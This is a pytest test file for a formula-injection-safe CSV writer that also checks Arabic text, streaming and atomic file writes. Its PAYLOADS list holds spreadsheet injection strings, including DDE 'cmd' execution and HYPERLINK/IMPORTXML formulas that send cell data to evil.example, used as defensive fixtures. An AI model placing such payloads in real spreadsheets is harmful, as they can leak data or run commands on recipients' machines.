"""The formula-safe CSV writer: SECURITY.md's bar, Arabic intact, streaming and atomic files."""

import csv
import io
import random
from decimal import Decimal
from pathlib import Path

import pytest

from nidaa.core.spreadsheet import BOM, CSVStream, safe_cell, write_csv, write_csv_file

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u3000+1",
    "＝1+1",
    "-5",
    "=",
]


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM.encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_bytes(header: list[str], rows: list[list[object]]) -> bytes:
    return b"".join(CSVStream(header, rows))


def test_500_hostile_cells_in_10000_rows_leave_no_cell_a_spreadsheet_would_run() -> None:
    rng = random.Random(3)
    rows: list[list[object]] = [
        [f"name {i}", f"person{i}@example.org", "SY"] for i in range(10_000)
    ]
    places = rng.sample([(row, column) for row in range(10_000) for column in range(3)], 500)
    for n, (row, column) in enumerate(places):
        rows[row][column] = PAYLOADS[n % len(PAYLOADS)] + f" {n}"

    table = read_back(csv_bytes(["name", "email", "country"], rows))

    assert len(table) == 10_001  # the header and every row: none lost, none split
    cells = [cell for row in table for cell in row]
    assert [cell for cell in cells if cell.startswith(TRIGGERS)] == []
    assert sum(cell.startswith("'") for cell in cells) == 500
    # Neutralised, not mangled: the text after the quote is what the person typed.
    assert table[1:] == [[str(safe_cell(cell)) for cell in row] for row in rows]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_quotes_a_cell_that_starts_with_a_trigger_even_behind_blanks(payload: str) -> None:
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "text", ["Samira Haddad", "a=b", "x-1", "2026-11-20T10:00:00Z", "'quoted", ""]
)
def test_it_leaves_ordinary_text_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert safe_cell(-5) == -5
    assert safe_cell(-2.5) == -2.5
    assert safe_cell(Decimal("-1.10")) == Decimal("-1.10")
    assert read_back(csv_bytes(["n"], [[-5]]))[1] == ["-5"]


def test_none_and_booleans_are_written_as_words() -> None:
    assert read_back(csv_bytes(["a", "b", "c"], [[None, True, False]]))[1] == ["", "yes", "no"]


def test_arabic_names_survive_the_round_trip() -> None:
    names = ["سميرة حداد", "الدفاع المدني السوري — إدلب", 'محمد, "أبو أحمد"\nسطر ثان']

    table = read_back(csv_bytes(["name"], [[name] for name in names]))

    assert [row[0] for row in table[1:]] == names


def test_rows_end_in_crlf_and_the_file_starts_with_a_bom() -> None:
    data = csv_bytes(["a", "b"], [["1", "2"]])

    assert data == b"\xef\xbb\xbfa,b\r\n1,2\r\n"


def test_it_streams_in_chunks_and_counts_the_rows() -> None:
    stream = CSVStream(["n"], ([str(i)] for i in range(2_000)))

    chunks = list(stream)

    assert len(chunks) > 3
    assert stream.rows_written == 2_000
    assert chunks[0].startswith(BOM.encode())
    assert not any(chunk.startswith(BOM.encode()) for chunk in chunks[1:])


def test_write_csv_writes_to_an_open_file() -> None:
    out = io.BytesIO()

    assert write_csv(out, ["n"], [["=1"]]) == 1
    assert read_back(out.getvalue()) == [["n"], ["'=1"]]


def test_a_file_is_replaced_only_when_complete(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_bytes(b"the previous export")

    def failing_rows() -> object:
        yield ["one"]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        write_csv_file(target, ["n"], failing_rows())  # type: ignore[arg-type]

    assert target.read_bytes() == b"the previous export"
    assert list(tmp_path.iterdir()) == [target]  # no temporary file left behind


def test_a_new_file_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"

    assert write_csv_file(target, ["n"], [["1"], ["2"]]) == 2
    assert read_back(target.read_bytes()) == [["n"], ["1"], ["2"]]
    assert target.stat().st_mode & 0o077 == 0
